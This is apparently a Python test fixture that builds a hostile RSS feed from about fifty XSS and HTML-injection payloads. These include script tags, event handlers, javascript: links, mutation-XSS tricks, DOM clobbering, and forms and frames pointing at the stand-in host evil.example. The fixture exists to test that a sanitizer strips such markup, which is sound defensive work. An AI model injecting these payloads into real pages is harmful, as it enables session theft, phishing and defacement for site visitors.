"""Markup that means harm, and some that only looks so: of our own making, for the pipeline, the pages and a browser.

What would run sets window.__pwned; what would be loaded or opened lies at evil.example.
"""

from __future__ import annotations

from html import escape

from tests.publishers import rss

RUN = "window.__pwned=1"
ELSEWHERE = "https://evil.example/pwned"
IMG = f"<img src=x onerror={RUN}>"

# Each stands between two sentences, of which both must be there in the end.
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script with a source": f'<script src="{ELSEWHERE}.js"></script>',
    "unclosed script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in a comment": f"<!--><script>{RUN}</script>-->",
    "handler on a picture": f'<img src=x onerror="{RUN}">',
    "handler after a slash": f"<img/src=x/onerror={RUN}>",
    "handler with a newline": f"<img src=x\nonerror\n=\n'{RUN}'>",
    "handler that waits for focus": f"<input autofocus onfocus={RUN}><b onfocus={RUN} tabindex=1>x</b>",
    "handler of an animation": f"<p style='animation-name:none' onanimationstart={RUN}>styled</p>",
    "handler that is toggled": f"<details open ontoggle={RUN}>shown</details>",
    "handler of a video": f"<video autoplay onloadstart={RUN}><source onerror={RUN} src=x></video>",
    "attribute that never ends": f'<img src="x" alt="``onerror={RUN} `>` <b title="{IMG}">b</b>',
    "link to a script": f'<a href="javascript:{RUN}">link</a>',
    "link to a script in disguise": f'<a href="jav&#x09;ascript&colon;{RUN}">x</a><a href="&#1;javascript:{RUN}">x</a>',
    "link to a document of its own": f'<a href="data:text/html,<script>{RUN}</script>">link</a>',
    "link with a user name": '<a href="https://paper.example@evil.example/pwned">link</a>',
    "link with a newline": '<a href="https://evil.example/&#13;&#10;Set-Cookie:pwned=1">link</a>',
    "svg with a script": f"<svg><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    "svg that loads": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg that uses another": f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    "mathml that changes its mind": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>"
    ),
    "svg that changes its mind": f"<svg></p><style><a id='</style>{IMG}'></a></svg>",
    "raw text that changes its mind": f"<noscript><p title='</noscript>{IMG}'></noscript>",
    "textarea that changes its mind": f"<textarea><img title='</textarea>{IMG}'></textarea>",
    "form inside a form": (f"<form><math><mtext></form><form><mglyph><style></math>{IMG}</style></mglyph></form>"),
    "template": f"<template><script>{RUN}</script></template><template shadowrootmode=open>{IMG}",
    "overlay": f"<div style='position:fixed;inset:0;z-index:9999;background:url({ELSEWHERE}.png)'>over</div>",
    "style sheet": f"<style>@import '{ELSEWHERE}'; *{{display:none}}</style><link rel=stylesheet href={ELSEWHERE}>",
    "iframe": f"<iframe src='{ELSEWHERE}'></iframe><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "object and embed": f"<object data='{ELSEWHERE}'></object><embed src='{ELSEWHERE}'><applet code=x></applet>",
    "frames": f"<frameset><frame src='{ELSEWHERE}'></frameset>",
    "login form": f"<form action='{ELSEWHERE}'>Password <input type=password name=pwned><button>In</button></form>",
    "button of another form": f"<button form=search formaction='{ELSEWHERE}'>Search</button><input form=search name=q>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href='{ELSEWHERE}/'>",
    "preload": f"<link rel=preload as=image href='{ELSEWHERE}'><link rel=manifest href='{ELSEWHERE}'>",
    "clobbering": "<img name=body id=documentElement><a id=location name=cookie href=x>x</a><form id=forms></form>",
    "htmx": f"<div hx-get='{ELSEWHERE}' hx-trigger=load hx-on::load='{RUN}' data-hx-get='{ELSEWHERE}'>x</div>",
    "alpine": f"<div x-data x-init='{RUN}' @click='{RUN}' :class='{RUN}' x-html='pwned'>x</div>",
    "stimulus": "<div data-controller=pwned data-action='load->pwned#run' data-turbo-frame=_top>x</div>",
    "classes of ours": "<div class='wall text art-h pwned' id=main hidden inert popover=manual role=alert>x</div>",
    "lazy picture": f"<img src='data:,' data-src='javascript:{RUN}'><img data-src='x&quot; onerror=&quot;{RUN}'>",
    "picture element": f"<picture><source srcset='javascript:{RUN} 1x'><img src='data:,' onerror={RUN}></picture>",
    "spare picture": f"<noscript>{IMG}</noscript>",
    "tracking pixel": f"<img src='{ELSEWHERE}.gif' width=1 height=1><img src='{ELSEWHERE}/1x1.gif'>",
    "picture on our own site": "<img src='/account/logout/'><img src='//127.0.0.1/x'><a href='/account/logout/'>x</a>",
    "template syntax": "{{ 7|add:7 }}{% now 'Y' %}${7*7}#{7*7}&lt;%= 7*7 %&gt; pwned",
    "caption by class": f"<p class='caption' title='x' onclick='{RUN}'>caption{IMG}</p>",
    "table": f"<table background='{ELSEWHERE}'><tr><td colspan='9999' onclick={RUN}>cell</table>",
    "marquee": f"<marquee onstart={RUN}>moving</marquee><bgsound src='{ELSEWHERE}'><plaintext-like>",
    "foreign element": f"<x-pwned onclick={RUN}>named</x-pwned><isindex action='javascript:{RUN}'>",
}
FIRST, LAST = "The ships came home on Friday.", "Nobody had expected them, said witness {}."
# A headline that shows markup, as one about programming may: nothing may take it for any.
SHOWN = f"<script>{RUN}</script>{IMG}"
TITLE = f"{IMG}\"'><script>{RUN}</script>{escape(SHOWN)} & {{{{ 7|add:7 }}}} ]]>"


def entry(number: int, markup: str, title: str = "") -> str:
    """One raw RSS item with the payload in every place that holds text."""
    told = escape(title or f"Hostile headline {number}")
    link = f"https://paper.example/hostile/{number}"
    text = escape(f"<p>{FIRST}</p>{markup}<p>{LAST.format(number)}</p>")
    return (
        f"<item><title>{told}</title><link>{link}</link><guid isPermaLink='false'>{escape(title)}{number}</guid>"
        f"<author>{told}</author><category>{told[:60]}</category><description>{text}</description>"
        f"<enclosure url=\"{ELSEWHERE}.jpg?'&gt;&lt;script&gt;{RUN}&lt;/script&gt;\" type='image/jpeg'/></item>"
    )


def hostile_feed(title: str = "") -> str:
    """Every payload in one feed; `title` in the place of each headline, author, category and guid."""
    channel = f"<description>{escape(TITLE)}</description><image><url>javascript:{RUN}</url></image>"
    return rss(*(entry(number, markup, title) for number, markup in enumerate(MARKUP.values())), channel=channel)
